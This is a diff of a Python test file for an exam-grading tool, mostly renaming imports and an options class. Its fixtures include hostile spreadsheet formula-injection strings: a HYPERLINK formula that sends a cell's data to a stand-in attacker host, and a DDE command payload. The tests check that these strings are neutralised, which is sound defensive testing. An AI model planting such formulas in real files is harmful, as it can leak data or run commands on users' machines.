@@ -14,17 +14,17 @@ from typing import Any
 
 import pytest
 
-from grader.documents.answer import Answer
-from grader.documents.exercise import load_exercise, load_exercise_bytes
-from grader.documents.variants import variants_of
-from grader.intake.collect import collect
-from grader.kernel.cells import width
+from grader.documents.answer_file import Answer
+from grader.documents.exam import variants_of
+from grader.documents.exercise_file import load_exercise, load_exercise_bytes
+from grader.intake.answer_collection import collect
+from grader.kernel.display_text import terminal_width
 from grader.marking.grader import Grader
 from grader.marking.report import LEVELS, Report
 from grader.questions.exercise import Exercise, Policy
-from grader.reports.options import CANVAS, GRADEBOOKS, MOODLE, Options
-from grader.reports.registry import CHANGES_OUTPUTS, OUTPUTS
-from solver.documents.schema import conforms
+from grader.reports.output_options import CANVAS, GRADEBOOKS, MOODLE, OutputOptions
+from grader.reports.report_outputs import CHANGES_OUTPUTS, OUTPUTS
+from solver.documents.document_schemas import conforms
 from solver.languages import LANGUAGES, language
 from tests.support.paths import ROOT
 from tests.support.runs import changed
@@ -33,7 +33,7 @@ from tests.support.safety import is_harmless, is_number
 EXERCISE = load_exercise(ROOT / "exercises" / "two-ply.yaml")
 GRADER = Grader(EXERCISE)
 WORDS = {code: language(code, ROOT / "grader" / "languages") for code in LANGUAGES}
-ENGLISH = Options(WORDS["en"])
+ENGLISH = OutputOptions(WORDS["en"])
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+1+cmd|' /C calc'!A0",
@@ -85,7 +85,7 @@ def hostile() -> list[Report]:
     return reports
 
 
-def output(name: str, reports: list[Report], options: Options = ENGLISH) -> str:
+def output(name: str, reports: list[Report], options: OutputOptions = ENGLISH) -> str:
     return b"".join(OUTPUTS[name].write(iter(reports), options)).decode()
 
 
@@ -123,9 +123,9 @@ def test_the_table_names_mistakes_and_other_conventions() -> None:
 def test_columns_stand_below_one_another(code: str) -> None:
     names = ["ada", "علی", "漢字", "e\u0301", "\u0645\u06cc\u200c\u0631\u0648\u0645"]
     reports = [GRADER.grade(Answer("two-ply", name, {"move": "a1"})) for name in names]
-    _, *rows = output("text", reports, Options(WORDS[code], level="marks")).splitlines()
-    assert len({width(row) for row in rows}) == 1
-    assert len({width(row[: row.index(WORDS[code].number(0))]) for row in rows}) == 1
+    _, *rows = output("text", reports, OutputOptions(WORDS[code], level="marks")).splitlines()
+    assert len({terminal_width(row) for row in rows}) == 1
+    assert len({terminal_width(row[: row.index(WORDS[code].number(0))]) for row in rows}) == 1
 
 
 def test_one_answer_in_detail() -> None:
@@ -148,7 +148,7 @@ def test_no_output_tells_more_than_the_level_allows(name: str, level: str) -> No
     text += "questions: [{id: values, ask: values, marks: 3}]"
     exercise = load_exercise_bytes(text.encode())
     report = Grader(exercise).grade(Answer("two-ply", "s", {"values": {"A": "1", "B": "2", "C": "3"}}))
-    told = output(name, [report], Options(WORDS["en"], level=level, several=False))
+    told = output(name, [report], OutputOptions(WORDS["en"], level=level, several=False))
     assert ("7773" in told) == (level == "full")
     assert ("wrong" in told) == (level in ("hints", "full"))
 
@@ -221,12 +221,12 @@ def test_the_order_of_input_does_not_matter(name: str) -> None:
 @pytest.mark.parametrize("code", LANGUAGES)
 def test_hostile_texts_do_nothing_on_a_terminal(code: str) -> None:
     reports = hostile()
-    table = output("text", reports, Options(WORDS[code]))
+    table = output("text", reports, OutputOptions(WORDS[code]))
     assert is_harmless(table)
     assert len(table.splitlines()) == len(HOSTILE) + 1
-    assert max(map(width, table.splitlines())) < 200
+    assert max(map(terminal_width, table.splitlines())) < 200
     for report in reports:
-        assert is_harmless(output("text", [report], Options(WORDS[code], several=False)))
+        assert is_harmless(output("text", [report], OutputOptions(WORDS[code], several=False)))
 
 
 @pytest.mark.parametrize("gradebook", GRADEBOOKS)
